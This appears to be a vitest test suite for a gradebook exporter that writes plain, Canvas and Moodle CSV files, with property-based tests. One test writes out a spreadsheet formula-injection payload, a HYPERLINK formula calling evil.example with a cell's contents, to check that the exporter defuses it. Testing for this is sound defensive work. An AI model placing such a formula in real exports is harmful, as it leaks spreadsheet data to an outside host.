import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Gradebook, GradebookStudent } from './gradebook.ts'
import { gradesFormats, writeGradesCsv } from './grades-csv.ts'

const assignments = [
  { id: 'a', title: 'Padding, stride', of: 1000 },
  { id: 'b', title: 'The "same" convolution', of: 250 },
]

const oddNames = [
  'Ada "the first" Lovelace',
  'Lovelace, Ada',
  'Ada\nLovelace',
  'Ada\r\nLovelace',
  '李雷',
  '🙂 Ada',
  'Zoë; Müller',
]

function student(name: string, fields: Partial<GradebookStudent> = {}): GradebookStudent {
  return { name, email: 'ada@example.edu', points: new Map(), total: 0, ...fields }
}

const ada = student('Ada Lovelace', {
  studentNumber: '007',
  canvasId: '42',
  section: 'Group A',
  points: new Map([
    ['a', 1005],
    ['b', 0],
  ]),
  total: 1005,
})
const bob = student('Bob', { email: 'bob@example.edu', points: new Map([['b', 5]]), total: 5 })
const gradebook: Gradebook = { course: 'CNN', assignments, students: [ada, bob] }

function withTitles(...titles: string[]): Gradebook {
  const named = titles.map((title, index) => ({ id: String(index), title, of: 100 }))
  return { course: 'CNN', assignments: named, students: [] }
}

test('plain has a byte order mark, readable headers and the totals', () => {
  const text = writeGradesCsv('plain', gradebook)
  expect(text.startsWith('\ufeffName,E-mail')).toBe(true)
  expect(parse(text, { bom: true })).toEqual([
    [
      ...['Name', 'E-mail', 'Student number', 'Section'],
      ...['Padding, stride (of 10.00)', 'The "same" convolution (of 2.50)', 'Total'],
    ],
    ['Ada Lovelace', 'ada@example.edu', '007', 'Group A', '10.05', '0.00', '10.05'],
    ['Bob', 'bob@example.edu', '', '', '', '0.05', '0.05'],
  ])
})

test('canvas has the columns of Canvas, the possible points, and ids where Canvas has the assignment', () => {
  const text = writeGradesCsv('canvas', gradebook, new Map([['b', '4711']]))
  expect(parse(text)).toEqual([
    [
      ...['Student', 'ID', 'SIS User ID', 'SIS Login ID', 'Section'],
      ...['Padding, stride', 'The "same" convolution (4711)'],
    ],
    ['Points Possible', '', '', '', '', '10.00', '2.50'],
    ['Ada Lovelace', '42', '007', 'ada@example.edu', 'Group A', '10.05', '0.00'],
    ['Bob', '', '', 'bob@example.edu', '', '', '0.05'],
  ])
})

test('moodle has the columns that Moodle maps, and hyphens for no grade', () => {
  expect(parse(writeGradesCsv('moodle', gradebook))).toEqual([
    ['Email address', 'ID number', 'Padding, stride', 'The "same" convolution'],
    ['ada@example.edu', '007', '10.05', '0.00'],
    ['bob@example.edu', '', '-', '0.05'],
  ])
})

describe('assignments of one title are told apart', () => {
  const twice = withTitles('Pool', 'Pool', 'Pool')

  test('in plain', () => {
    const [header] = parse(writeGradesCsv('plain', twice), { bom: true })
    expect(header?.slice(4, -1)).toEqual(['Pool (of 1.00)', 'Pool (2) (of 1.00)', 'Pool (3) (of 1.00)'])
  })

  test('in moodle', () => {
    expect(parse(writeGradesCsv('moodle', twice))[0]?.slice(2)).toEqual(['Pool', 'Pool (2)', 'Pool (3)'])
  })

  test('in canvas, without what it would take for an id', () => {
    const [header] = parse(writeGradesCsv('canvas', twice, new Map([['1', '9']])))
    expect(header?.slice(5)).toEqual(['Pool', 'Pool (9)', 'Pool [2]'])
    const own = parse(writeGradesCsv('canvas', withTitles('Week (2)', 'Week [2]')))[0]
    expect(own?.slice(5)).toEqual(['Week [2]', 'Week [2] [2]'])
  })
})

describe.each(gradesFormats)('%s', (format) => {
  const read = (text: string) => parse(text, { bom: true })

  test('can be read where there is nobody and nothing', () => {
    const rows = read(writeGradesCsv(format, { course: '', assignments: [], students: [] }))
    expect(rows).toHaveLength(format === 'canvas' ? 2 : 1)
  })

  test.each(oddNames)('%j is read back wherever it stands', (text) => {
    const odd = student(text, { email: text, studentNumber: text, canvasId: text, section: text })
    const rows = read(writeGradesCsv(format, { ...withTitles(text), students: [odd] }))
    const last = rows.at(-1) ?? []
    expect(last.filter((field) => field === text)).toHaveLength({ plain: 4, canvas: 5, moodle: 2 }[format])
    expect(rows[0]?.some((field) => field.startsWith(text))).toBe(true)
  })

  test('a formula is text wherever it stands', () => {
    const text = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    const odd = student(text, { email: text, studentNumber: text, canvasId: text, section: text })
    const rows = read(writeGradesCsv(format, { ...withTitles(text), students: [odd] }))
    const formulas = rows.flat().filter((field) => field.includes('HYPERLINK'))
    expect(formulas).toHaveLength({ plain: 5, canvas: 6, moodle: 3 }[format])
    expect(formulas.every((field) => field.startsWith(`'${text}`))).toBe(true)
  })

  test('numbers below nothing are numbers', () => {
    const below = student('Ada', { points: new Map([['a', -5]]), total: -5 })
    expect(read(writeGradesCsv(format, { ...gradebook, students: [below] })).flat()).toContain('-0.05')
  })

  test('points that are not whole hundredths are refused', () => {
    const half = student('Ada', { points: new Map([['a', 0.5]]) })
    expect(() => writeGradesCsv(format, { ...gradebook, students: [half] })).toThrow(RangeError)
  })

  test('whatever the texts and points are, no text is a formula and every field is read back', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({
        unit: fc.constantFrom('=', '+', '-', '@', '"', "'", ',', ';', ' ', '\t', '\r', '\n', '＝', 'a'),
      }),
    )
    const points = fc.option(fc.integer({ min: -100, max: 100_000 }), { nil: undefined })
    fc.assert(
      fc.property(text, text, text, points, (name, other, title, reached) => {
        const pointsOf = new Map(reached === undefined ? [] : [['0', reached]])
        const odd = student(name, { email: other, studentNumber: other, section: other, points: pointsOf })
        const rows = read(writeGradesCsv(format, { ...withTitles(title), students: [odd] }))
        const isPlain = format === 'plain'
        expect(new Set(rows.map((row) => row.length)).size).toBe(1)
        const texts = (rows.at(-1) ?? []).slice(0, { plain: 4, canvas: 5, moodle: 2 }[format])
        for (const field of [...texts, ...(rows[0] ?? [])]) {
          expect(field).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]|^[\t\r]/)
        }
        expect([other, `'${other}`]).toContain(texts[isPlain ? 1 : format === 'canvas' ? 2 : 0])
        const expected = reached === undefined ? (format === 'moodle' ? '-' : '') : (reached / 100).toFixed(2)
        expect(rows.at(-1)?.at(isPlain ? -2 : -1)).toBe(expected)
      }),
    )
  })
})
